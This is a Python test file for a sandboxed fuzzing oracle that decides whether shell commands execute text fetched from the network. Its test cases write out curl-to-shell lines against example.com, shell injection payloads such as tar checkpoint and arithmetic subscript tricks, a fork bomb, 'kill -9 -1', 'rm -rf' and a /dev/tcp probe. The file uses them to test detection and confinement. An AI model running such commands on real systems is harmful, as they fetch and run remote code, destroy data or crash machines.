"""The oracle on commands whose outcome is beyond doubt, and the walls of its sandbox."""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

import pytest

from fuzz.confinement import SHELLS
from fuzz.oracle import Outcome, observe
from fuzz.stubs import CANARY
from tests.fuzz.sandboxed import require, runner

ROOT = Path(__file__).parents[2]
F = "curl -s https://example.com/a"

EXECUTED = (
    f"{F} | sh",
    f'eval "$({F})"',
    f"$({F})",
    f'x=$({F}); eval "$x"',
    f"{F} >f; . ./f",
    "curl -s https://example.com/a | base64 -d | { sh; }",
    f"f() {{ {F}; }}; f | sh",
    f'trap "$({F})" EXIT',
    f"env $({F})",
    f"cat <<E | sh\n$({F})\nE",
)
CAPTURED = (
    F,
    f'echo "$({F})"',
    f"x=$({F}); echo $x",
    f"{F} >f; cat f",
    f"{F} | grep x",
    f"{F} | sh -n",
    f"cat <<E\n$({F})\nE",
    f'for i in $({F}); do echo "$i"; done',
    f'sh -c \'echo "$1"\' _ "$({F})"',
    f'x=$({F}); x=true; eval "$x"',
    f"{F} -o /dev/null -w '%{{http_code}}'",
)
INCONCLUSIVE = (
    "echo hello",
    "curl --version",
    "curl -s",
    "if",
    f"false && {F} | sh",
    "kill -9 -1",
    "nothing_of_this_name",
)

pytestmark = pytest.mark.sandbox

shells = pytest.mark.parametrize("shell", SHELLS)


@pytest.mark.slow
@shells
def test_executed(shell: str) -> None:
    """What each shell executes is proved by the canary."""
    require(shell)

    assert {c: observe(runner(), shell, c).outcome for c in EXECUTED} == dict.fromkeys(EXECUTED, Outcome.EXECUTED)


@pytest.mark.slow
@shells
def test_captured(shell: str) -> None:
    """What each shell only keeps, prints or filters is no hit, whatever is fetched."""
    require(shell)

    assert {c: observe(runner(), shell, c).outcome for c in CAPTURED} == dict.fromkeys(CAPTURED, Outcome.CAPTURED)


@pytest.mark.slow
@shells
def test_inconclusive(shell: str) -> None:
    """Nothing is said where nothing was fetched, or where the shell did not end by itself."""
    require(shell)
    outcomes = {c: observe(runner(), shell, c).outcome for c in INCONCLUSIVE}

    assert outcomes == dict.fromkeys(INCONCLUSIVE, Outcome.INCONCLUSIVE)


@pytest.mark.parametrize(
    ("shell", "command", "expected"),
    [
        ("bash", f"x=$({F}); echo $((x))", "subscript"),
        ("bash", f"[[ $({F}) -eq 0 ]]", "subscript"),
        ("bash", f"[ $({F}) = y ]", "name-test"),
        ("zsh", f"x=$({F}); echo $((x))", "subscript-assignment"),
        ("bash", f'echo {F} | python3 -c "$({F})"', "python"),
        ("bash", f"find $({F})", "find"),
        ("bash", f"echo a | split $({F})", "split --filter"),
        ("dash", f"tar cf t /etc/hosts $({F})", "checkpoint"),
        ("dash", f"x=$({F}); echo $((x))", ""),
        ("ksh93", f"(( $({F}) ))", ""),
    ],
)
def test_the_payload_fits_the_place(shell: str, command: str, expected: str) -> None:
    """Arithmetic, names, options and other languages have payloads of their own; not every shell evaluates them."""
    require(shell)

    assert observe(runner(), shell, command).payload == expected


@pytest.mark.slow
def test_repeated_runs_agree() -> None:
    """A second and a third run have the outcome of the first, in the background too."""
    commands = [*EXECUTED[:3], *CAPTURED[:3], f"{F} | sh & true", f"(sleep 1; {F}) | sh & wait"]
    first = [observe(runner(), "bash", command) for command in commands]

    assert [observe(runner(), "bash", command, repeats=2) for command in commands] == first


@pytest.mark.slow
@pytest.mark.parametrize("command", [f"{F} >f; while :; do :; done", ":() { : | : & }; :", "mkfifo p; exec cat <>p"])
def test_what_does_not_end_is_ended(command: str) -> None:
    """After a command that goes on for ever, or is many, the next one runs as ever."""
    assert observe(runner(), "bash", command).outcome is Outcome.INCONCLUSIVE
    assert observe(runner(), "bash", f"{F} | sh").outcome is Outcome.EXECUTED


@pytest.mark.parametrize(
    "command",
    [
        "echo x >/usr/x",
        "echo x >/x",
        "echo x >/sg/x",
        "echo x >/etc/hosts",
        "ls /root",
        f"ls {Path(CANARY).parent}",
        "ls /home/user/.*rc",
        ": </dev/tcp/127.0.0.1/22",
        "head -c 2000000 /dev/zero >f",
        "head -c 20000000 /dev/zero | tail -c 20000000 >/dev/shm/f",
        "kill -0 1 && kill 1 && test -d /proc/1 && false",
        "perl -e '$x = \"a\" x 900000000'",
        "mknod d b 8 0",
        "mkdir m; mount -t tmpfs none m",
        "unshare -U true",
        "test -e /var",
        "touch /dev/x",
        '[ "$(id -u)" = 0 ]',
    ],
)
def test_walls(command: str) -> None:
    """The system is read-only and bare, there is no network, and files, memory and rights are limited."""
    if Path(CANARY).parent.as_posix() in command:
        command = "ls /c"

    assert runner().run("bash", command)[0].status not in {0, 125}


def test_each_run_begins_empty() -> None:
    """Nothing is left from one run to the next, and what it started is gone."""
    mess = "mkdir -p a/b; echo x >a/b/c; chmod 0 a/b a; echo x >/tmp/t; echo x >~/.bashrc; sleep 100 & yes >/dev/null &"
    runner().run("bash", mess)
    look = '[ "$(ls -A . /tmp ~ /dev/shm | tr -d "\\n")" = ".:/dev/shm:/home/user:/tmp:" ]; exit $?'
    run = runner().run("bash", look)[0]

    assert (run.status, run.is_in_time, run.messages) == (0, True, "")


@pytest.mark.parametrize(
    "command",
    [
        "chmod 500 /work",
        "chmod 0 /work /tmp",
        "chmod 0 /r",
        "rm -rf /work /r",
        "kill -9 -1",
        "mkdir a; chmod 0 a; mv a b",
    ],
)
def test_a_sandbox_survives_its_commands(command: str) -> None:
    """Whatever a command takes away is there again for the next, which is what a campaign asks after each task."""
    runner().run("bash", command)

    assert runner().is_sound("bash")


def test_a_sandbox_that_does_less_is_not_sound() -> None:
    """A sandbox whose shell cannot start is told apart from one in which nothing was executed."""
    require("dash")

    assert runner().is_sound("dash")
    assert runner("argv").is_sound("dash")
    assert not runner("argv").run("dash", "exit 125", names=("probe",))[0].argv


def test_commands_may_not_name_the_canary() -> None:
    """A hit proves that fetched text was executed because nothing else knows the name."""
    with pytest.raises(ValueError, match="canary"):
        runner().run("bash", f"{CANARY}")


@pytest.mark.parametrize("start", ["import fuzz.runner as r\nwith r.Runner() as x: x.run('bash', 'true')", ""])
def test_nothing_runs_without_the_sandbox(start: str) -> None:
    """Where bubblewrap is missing the runner refuses, and so does the command line."""
    command = [sys.executable, "-c", start] if start else [sys.executable, "-m", "fuzz", "oracle"]
    result = subprocess.run(
        command, cwd=ROOT, env={"PATH": "/nonexistent"}, capture_output=True, text=True, check=False
    )

    assert result.returncode == (1 if start else 3)
    assert "bwrap is not installed" in result.stderr
